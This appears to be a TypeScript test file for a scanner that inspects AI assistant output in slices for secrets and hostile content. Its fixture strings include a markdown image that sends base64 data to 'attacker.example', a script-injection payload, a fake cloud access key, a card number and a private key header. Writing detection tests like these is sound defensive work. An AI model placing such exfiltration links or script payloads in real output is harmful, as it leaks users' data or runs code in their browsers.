import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Detector, Signal } from "../../contracts/index.ts";
import { detectors } from "../index.ts";
import { inspectInSlices, inspectText, type Slicing } from "./index.ts";

const inspection = (text: string) => ({ stage: "output", role: "assistant", text }) as const;

/** All steps, and how many there were. */
function run(asked: readonly Detector[], text: string, slicing: Slicing) {
  const steps = inspectInSlices(asked, inspection(text), slicing);
  for (let count = 0; ; count++) {
    const step = steps.next();
    if (step.done === true) return { signals: step.value, count };
  }
}

const words = (word: string, seen: number[], hold: boolean): Detector => ({
  id: `words-${hold}`,
  version: "1.0.0",
  about: "Test.",
  stages: ["output"],
  maxSpan: word.length,
  reads: "written",
  lookBehind: 0,
  ...(hold ? { hold: (text: string) => Math.max(0, text.length - word.length + 1) } : {}),
  inspect({ text }) {
    seen.push(text.length);
    const found: Signal[] = [];
    for (let at = text.indexOf(word); at >= 0; at = text.indexOf(word, at + word.length))
      found.push({
        detector: `words-${hold}`,
        rule: "word",
        category: "secret",
        score: 1,
        start: at,
        end: at + word.length,
        why: "It is there.",
      });
    return found;
  },
});

const pieces = fc.constantFrom(
  "The ferry runs twice a day. ",
  "Write to anna@example.com or call +49 30 1234567, ",
  "IBAN DE89 3704 0044 0532 0130 00 ",
  `\x41KIAQ7ZK3M2PV5XW4LTB `,
  "![chart](https://attacker.example/p?d=c2VjcmV0) ",
  "4111 1111 1111 1111 ",
  "<script>alert(1)</script> ",
  "-----BEGIN RSA PRIVATE KEY-----\nMIIB",
  `${Buffer.from("mail anna@example.com today").toString("base64")} `,
  "d\u200be\u200bn\u200by ",
  "\u{1F600}",
  "\n",
);

describe("inspecting in slices", () => {
  it("covers everything that a look at the whole text finds, with the same rule", () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), fc.integer({ min: 1, max: 300 }), (texts, slice) => {
        const text = texts.join("");
        const { signals } = run(detectors, text, { slice });
        const uncovered = inspectText(detectors, inspection(text)).filter((wanted) => {
          const same = signals.filter(
            ({ detector, rule }) => detector === wanted.detector && rule === wanted.rule,
          );
          let at = wanted.start;
          for (const { start, end } of same) if (start <= at && end > at) at = end;
          return at < wanted.end || same.length === 0;
        });
        expect(uncovered).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it("gives detectors that hold a slice at a time, and those that judge the whole", () => {
    const held: number[] = [];
    const judged: number[] = [];
    const text = `${"x".repeat(5_000)}sword`;
    const { signals, count } = run([words("sword", held, true), words("sword", judged, false)], text, {
      slice: 1_000,
    });
    expect(signals.map(({ start }) => start)).toEqual([5_000, 5_000]);
    expect(Math.max(...held)).toBeLessThanOrEqual(1_000);
    expect(judged).toEqual([text.length]);
    expect(count).toBeGreaterThan(5);
  });

  it("costs linear work however much is held", () => {
    const seen: number[] = [];
    const holding: Detector = { ...words("sword", seen, true), hold: () => 0 };
    run([holding], "x".repeat(200_000), { slice: 1_000 });
    expect(seen.reduce((sum, length) => sum + length, 0)).toBeLessThanOrEqual(600_000);
  });

  it("ends soon after there are more signals than may be", () => {
    const seen: number[] = [];
    let floods = 0;
    const { signals } = run([words("sword", seen, true)], "sword ".repeat(10_000), {
      slice: 600,
      mostSignals: 250,
      flooded: () => void (floods += 1),
    });
    expect(floods).toBe(1);
    expect(signals.length).toBeGreaterThan(250);
    expect(seen.reduce((sum, length) => sum + length, 0)).toBeLessThan(3_000);
  });

  it("ends as soon when all of it is held", () => {
    const seen: number[] = [];
    const holding: Detector = { ...words("sword", seen, true), hold: () => 0 };
    run([holding], "sword ".repeat(100_000), { slice: 600, mostSignals: 250 });
    expect(seen.reduce((sum, length) => sum + length, 0)).toBeLessThan(8_000);
  });
});
